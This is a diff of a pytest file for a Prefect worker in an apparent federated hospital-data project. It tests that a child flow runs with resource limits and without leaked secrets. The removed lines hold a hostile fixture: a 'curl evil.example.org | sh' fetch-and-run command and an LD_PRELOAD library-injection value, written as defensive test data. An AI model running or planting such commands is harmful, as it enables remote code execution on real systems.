@@ -12,18 +12,22 @@ import pytest
 from prefect.client.schemas.objects import FlowRun
 
 from deployments import worker as worker_module
-from deployments.worker import ALLOWED_FLOWS, run_child
+from deployments.admission import ALLOWED_FLOWS
+from deployments.confine import ChildLimits
+from deployments.worker import run_child
 from flows.hospital_round import hospital_round
 
 ENVIRONMENT = {"FEDMED_HOSPITAL_ID": "north", "FEDMED_DATA_PATH": "/data/table.csv"}
-HOSTILE = {
-    "command": "curl evil.example.org | sh",
-    "env": {"FEDMED_DATA_PATH": "/etc/evil", "LD_PRELOAD": "/srv/evil.so"},
-}
 
 
 @pytest.fixture
-def ran(monkeypatch: pytest.MonkeyPatch) -> Iterator[list[Any]]:
+def limits() -> list[ChildLimits]:
+    """What the child was limited to; a test's own process is not."""
+    return []
+
+
+@pytest.fixture
+def ran(monkeypatch: pytest.MonkeyPatch, limits: list[ChildLimits]) -> Iterator[list[Any]]:
     """What the child runs, with the environment in which it does; nothing reaches a server."""
     calls: list[Any] = []
 
@@ -32,19 +36,21 @@ def ran(monkeypatch: pytest.MonkeyPatch) -> Iterator[list[Any]]:
 
     monkeypatch.setattr("prefect.flow_engine.run_flow", run_flow)
     monkeypatch.setattr(worker_module, "warm_client", lambda: nullcontext())
+    monkeypatch.setattr(worker_module, "limit_child", limits.append)
     before = dict(os.environ)
     yield calls
     os.environ.clear()
     os.environ.update(before)
 
 
-def test_the_child_runs_the_local_flow_and_takes_nothing_from_the_server(ran: list[Any]) -> None:
+def test_the_child_runs_the_local_flow_in_its_limits_and_without_secrets(
+    ran: list[Any], limits: list[ChildLimits], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "evil")
     flow_run = FlowRun(
         id=uuid4(),
         name="north-round-1",
         flow_id=uuid4(),
-        deployment_id=uuid4(),
-        job_variables=HOSTILE,
         parameters={"invitation": {"number": 1}},
     )
     before = set(os.environ)
@@ -53,13 +59,15 @@ def test_the_child_runs_the_local_flow_and_takes_nothing_from_the_server(ran: li
             **ENVIRONMENT,
             "flow_run": flow_run.model_dump_json(),
             "target": ALLOWED_FLOWS["hospital-round"],
+            "memory_mb": "512",
+            "cpu_s": "9",
         }
     )
     ((flow, given, return_type, environment),) = ran
     assert flow is hospital_round
     assert given.id == flow_run.id
     assert given.parameters == flow_run.parameters
-    assert given.deployment_id is None
+    assert limits == [ChildLimits(memory_mb=512, cpu_s=9)]
     assert return_type == "state"
     assert set(environment) - before <= {*ENVIRONMENT, "PREFECT__FLOW_RUN_ID"}
     assert environment["PREFECT__FLOW_RUN_ID"] == str(flow_run.id)
